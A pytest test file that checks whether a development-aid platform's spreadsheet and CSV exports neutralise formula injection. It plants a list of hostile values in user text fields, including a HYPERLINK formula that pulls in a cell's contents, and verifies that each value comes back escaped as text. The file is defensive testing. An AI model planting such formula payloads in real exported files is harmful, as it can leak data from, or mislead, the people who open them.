"""Every spreadsheet and CSV file the platform writes shows hostile text as text.

Each file is made through the path a user or the schedule takes (pages, report jobs, the
command line), then read back: workbooks with calamine and as their sheet XML, CSV with the
csv module, and the monthly dispatch and the compliance CSV through LibreOffice as well.
"""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.core.management import call_command
from python_calamine import CalamineWorkbook

from duikou.core import testing
from duikou.jobs.models import Job
from duikou.jobs.testing import run_queued
from duikou.orgs.models import Organisation
from duikou.projects.models import ProgressReport, Project
from duikou.projects.services import progress_report_submit
from duikou.reports.models import GeneratedReport
from duikou.reports.periods import report_period_parse
from duikou.reports.selectors import Operator
from duikou.reports.services import dispatch_monthly_generate, dispatch_render, report_request
from duikou.transfer.kinds import KINDS
from duikou.transfer.safe import FORMULA_START, workbook, write_cell

pytestmark = pytest.mark.django_db

HOSTILE = ('=HYPERLINK("http://x"&C3,"y")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")
# A CSV field may start with "-" when it is a number the platform wrote as a number.
NUMBER = re.compile(r"-\d+(\.\d+)?")
FORMULA = re.compile(rb"<f[ >/]")
SOFFICE = shutil.which("soffice")


# --- reading files back -------------------------------------------------------------


def xlsx_cells(data: bytes) -> list:
    """Every cell of every sheet, hidden ones too, as calamine reads them."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return [
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
    ]


def xlsx_formula_count(data: bytes) -> int:
    """``<f>`` elements in the sheets. The platform writes no formula of its own, so every
    one found would be text turned into a formula."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    return sum(
        len(FORMULA.findall(archive.read(name)))
        for name in archive.namelist()
        if name.startswith("xl/worksheets/") and name.endswith(".xml")
    )


def csv_cells(data: bytes | str) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def unsafe(cells: list) -> list[str]:
    """Text cells a spreadsheet would run as a formula."""
    return [
        cell
        for cell in cells
        if isinstance(cell, str) and cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
    ]


def shown(cells: list, text: str) -> bool:
    """``text`` is there as text, behind the apostrophe that keeps it inert."""
    return any(isinstance(c, str) and c.startswith("'" + text) for c in cells)


def shown_any(cells: list) -> bool:
    return any(shown(cells, text) for text in HOSTILE)


def check_xlsx(data: bytes) -> list:
    assert data[:2] == b"PK"
    assert xlsx_formula_count(data) == 0
    cells = xlsx_cells(data)
    assert unsafe(cells) == []
    return cells


def check_csv(data: bytes | str) -> list[str]:
    cells = csv_cells(data)
    assert unsafe(cells) == []
    return cells


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def soffice_convert(path: Path, target: str, out: Path, *infilter: str) -> Path:
    profile = out / "profile"
    subprocess.run(  # noqa: S603 - fixed command line, files this test wrote
        [
            SOFFICE,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            *infilter,
            "--convert-to",
            target,
            "--outdir",
            str(out),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=60,
    )
    return out / f"{path.stem}.{target}"


# --- hostile ledgers ----------------------------------------------------------------


@pytest.fixture
def command():
    """A front command, its team and one project under way per hostile text, all but the
    last with an October report whose problem is hostile too."""
    command = testing.donor_org(
        kind=Organisation.Kind.FRONT_COMMAND,
        base="652300",
        parent=testing.donor_province("350000"),
        name=HOSTILE[0],
    )
    team = testing.donor_org(parent=command, name=HOSTILE[1])
    reporter = testing.user()
    for n, text in enumerate(HOSTILE):
        project = testing.project(
            donor_org=team, status="building", planned_start=date(2025, 1, 1), name=text
        )
        if n < len(HOSTILE) - 1:
            progress_report_submit(
                project=project,
                year=2025,
                month=10,
                percent_complete="10",
                amount_spent="100.00",
                problems=HOSTILE[-1 - n],
                actor=reporter,
            )
    return command


def dispatch_texts(command) -> list[str]:
    """The project names and problems as stored (the services trim names)."""
    projects = Project.objects.filter(donor_org__parent=command)
    names = list(projects.values_list("name", flat=True))
    problems = ProgressReport.objects.filter(project__in=projects).values_list(
        "problems", flat=True
    )
    return names + list(problems)


# Text fields a user can fill in, by any path (form, import, API, admin).
USER_TEXT = {
    "orgs.Organisation": ["name", "short_name"],
    "projects.Project": ["code", "name", "description", "location"],
    "projects.FundTransaction": ["reference", "note"],
    "projects.ProgressReport": ["problems"],
    "investment.Deal": [
        "code",
        "name",
        "enterprise",
        "industry",
        "industry_chain",
        "industrial_park",
        "description",
        "location",
    ],
    "investment.FundsInPlace": ["reference", "note"],
    "investment.JobsReport": ["note"],
    "people.AidBatch": ["name", "note"],
    "people.AidMember": [
        "name",
        "home_organisation",
        "post",
        "role",
        "phone",
        "id_number",
        "host_org_name",
        "note",
    ],
    "people.MentorPair": [
        "apprentice_name",
        "apprentice_id_number",
        "apprentice_institution",
        "field",
        "can_do_alone",
    ],
    "people.Assignment": ["host_org_name", "note"],
    "people.Training": ["title", "place", "note"],
    "exchanges.Partnership": ["code", "donor_party_name", "local_party_name", "note"],
    "exchanges.Event": ["code", "title", "place", "note"],
    "exchanges.SalesChannel": ["code", "name", "operator", "location", "note"],
    "exchanges.SalesRecord": ["note"],
    "results.Value": ["comment", "evidence_note"],
}


def _unique(model) -> set[str]:
    names = {f.name for f in model._meta.fields if f.unique}
    for constraint in model._meta.constraints:
        names |= set(getattr(constraint, "fields", ()) or ())
    return names


@pytest.fixture
def hostile_demo():
    """The demo ledger with every user text field replaced by hostile text. Written straight
    to the tables: such text may arrive by any path, and the files must hold it safely."""
    from duikou.core.demo import demo_load

    demo_load()
    for label, names in USER_TEXT.items():
        model = apps.get_model(label)
        unique = _unique(model)
        rows = list(model.objects.order_by("pk"))
        for i, row in enumerate(rows):
            for j, name in enumerate(names):
                text = HOSTILE[(i + j) % len(HOSTILE)]
                suffix = f" {row.pk}" if name in unique else ""
                room = (model._meta.get_field(name).max_length or 1000) - len(suffix)
                setattr(row, name, text[:room] + suffix)
        model.objects.bulk_update(rows, names)
    return testing.user()


# --- the safe writer itself -----------------------------------------------------------


def test_numbers_stay_numbers_and_a_formula_written_on_purpose_stays_a_formula():
    buffer = io.BytesIO()
    book = workbook(buffer)
    sheet = book.add_worksheet("数据")
    write_cell(sheet, 0, 0, Decimal("-5.50"))
    write_cell(sheet, 0, 1, "-5.50")  # text, as a user typed it
    sheet.write_formula(0, 2, "=SUM(A1:A1)")
    # Even a plain ``write`` on this workbook writes strings, not formulas or links.
    sheet.write(0, 3, "=1+1")
    sheet.write(0, 4, "http://example.com")
    book.close()
    data = buffer.getvalue()
    assert xlsx_cells(data) == [-5.5, "'-5.50", 0, "=1+1", "http://example.com"]
    assert xlsx_formula_count(data) == 1
    assert b"<hyperlink" not in zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml")


# --- 月调度 -------------------------------------------------------------------------


def test_the_monthly_dispatch_shows_hostile_names_and_problems_as_text(command, client, tmp_path):
    national = testing.user()
    report = report_request(
        actor=national,
        kind=GeneratedReport.Kind.DISPATCH,
        fmt="xlsx",
        period=report_period_parse("2025-10"),
        org=command,
    )
    run_queued()
    client.force_login(national)
    asked = body(client.get(f"/reports/{report.pk}/download/"))
    made = dispatch_monthly_generate(year=2025, month=10)
    [scheduled] = GeneratedReport.objects.filter(pk__in=made, org=command)
    out = tmp_path / "月调度.xlsx"
    call_command("report", "dispatch", "--month", "2025-10", "--org", command.code, "--out", out)
    for data in (asked, scheduled.file.read(), out.read_bytes()):
        cells = check_xlsx(data)
        for text in dispatch_texts(command):
            assert "'" + text in cells  # names and problems, each in a cell of its own
        assert f"'{HOSTILE[1]}" in cells  # the team
        assert shown(cells, HOSTILE[0] + "2025年10月")  # the title begins with the command


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_monthly_dispatch_without_running_formulas(command, tmp_path):
    path = tmp_path / "dispatch.xlsx"
    path.write_bytes(dispatch_render(user=Operator(), year=2025, month=10, org=command))
    converted = soffice_convert(path, "csv", tmp_path)
    cells = csv_cells(converted.read_bytes())
    for text in dispatch_texts(command):
        assert "'" + text in cells
    assert "y" not in cells and "2" not in cells  # what HYPERLINK and +1+1 would show


# --- 合规检查 CSV -------------------------------------------------------------------


@pytest.fixture
def compliance_ledger():
    """A donor province named as an attacker would, with projects that fail the checks and
    carry hostile codes and names, so they are listed in the problem column."""
    province = testing.donor_province("350000")
    Organisation.objects.filter(pk=province.pk).update(name=HOSTILE[0])
    team = testing.donor_org(parent=province)
    for n, text in enumerate(HOSTILE):
        project = testing.project(
            donor_org=team,
            region="652300",
            name=text,
            status="building",
            planned_start=date(2025, 1, 1),
            planned_end=date(2025, 6, 30),
        )
        Project.objects.filter(pk=project.pk).update(code=f"{text[:30]}{n}")


def test_the_compliance_csv_shows_hostile_names_as_text(compliance_ledger, client, tmp_path):
    client.force_login(testing.user())
    page = body(client.get("/reports/compliance/", {"year": 2025, "format": "csv"}))
    out = tmp_path / "compliance.csv"
    call_command("report", "compliance", "--year", "2025", "--out", out)
    for data in (page, out.read_bytes()):
        cells = check_csv(data)
        assert "'" + HOSTILE[0] in cells  # the province
        assert shown_any(cells)  # the problem column starts with a hostile project code


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_compliance_csv_without_running_formulas(
    compliance_ledger, client, tmp_path
):
    client.force_login(testing.user())
    path = tmp_path / "compliance.csv"
    path.write_bytes(body(client.get("/reports/compliance/", {"year": 2025, "format": "csv"})))
    control = tmp_path / "control.csv"
    control.write_text("a\n=1+1\n", encoding="utf-8")
    # Comma, double quote, UTF-8, from line 1; LibreOffice evaluates formulas in CSV.
    utf8 = "--infilter=CSV:44,34,76,1"
    assert xlsx_cells(soffice_convert(control, "xlsx", tmp_path, utf8).read_bytes()) == ["a", 2]
    cells = xlsx_cells(soffice_convert(path, "xlsx", tmp_path, utf8).read_bytes())
    # LibreOffice keeps a carriage return inside a cell as a line break.
    neutralised = [c.replace("\r", "\n") for c in csv_cells(path.read_bytes()) if c.startswith("'")]
    assert "'" + HOSTILE[0] in neutralised
    assert [c for c in neutralised if c not in cells] == []
    assert unsafe(cells) == []


# --- import templates -----------------------------------------------------------------


def test_import_templates_show_hostile_organisation_names_as_text(client):
    for text in HOSTILE:
        testing.donor_org(name=text)
    client.force_login(testing.user())
    for kind in KINDS:
        cells = check_xlsx(body(client.get(f"/transfer/templates/{kind}.xlsx")))
        if any(c.type == "org" for c in KINDS[kind].input_columns()):
            for text in HOSTILE:
                assert "'" + text in cells, (kind, text)  # in the drop-down's list


# --- list, reference and pivot exports ------------------------------------------------


def test_every_record_export_shows_hostile_text_as_text(hostile_demo, client, settings):
    client.force_login(hostile_demo)
    for kind in KINDS:
        cells = check_xlsx(body(client.get(f"/transfer/export/{kind}.xlsx")))
        assert shown_any(cells), kind
        cells = check_csv(body(client.get(f"/transfer/export/{kind}.csv")))
        assert shown_any(cells), kind
    # Large lists are written by the worker.
    settings.DUIKOU_EXPORT_SYNC_ROWS = 0
    for fmt, check in (("xlsx", check_xlsx), ("csv", check_csv)):
        assert client.get(f"/transfer/export/projects.{fmt}").status_code == 302
        [job] = run_queued()
        assert job.status == Job.Status.DONE, job.message
        assert shown_any(check(job.output.read()))


def test_reference_list_exports_show_hostile_names_as_text(hostile_demo, client):
    client.force_login(hostile_demo)
    for url, hostile in (("/orgs/", True), ("/orgs/pairings/", True), ("/regions/", False)):
        cells = check_xlsx(body(client.get(url, {"format": "xlsx"})))
        assert shown_any(cells) is hostile, url
        cells = check_csv(body(client.get(url, {"format": "csv"})))
        assert shown_any(cells) is hostile, url


def test_the_explorer_pivot_shows_hostile_names_as_text(hostile_demo, client):
    org = Organisation.objects.get(code="SC-350500")
    client.force_login(hostile_demo)
    query = {"indicator": "PATIENTS_TREATED", "node": org.pk, "year_from": 2024}
    for layout in ({"rows": "node", "cols": "period"}, {"rows": "period", "cols": "node"}):
        for fmt, check in (("xlsx", check_xlsx), ("csv", check_csv)):
            cells = check(body(client.get("/explore/", {**query, **layout, "format": fmt})))
            assert "'" + org.name in cells, (layout, fmt)
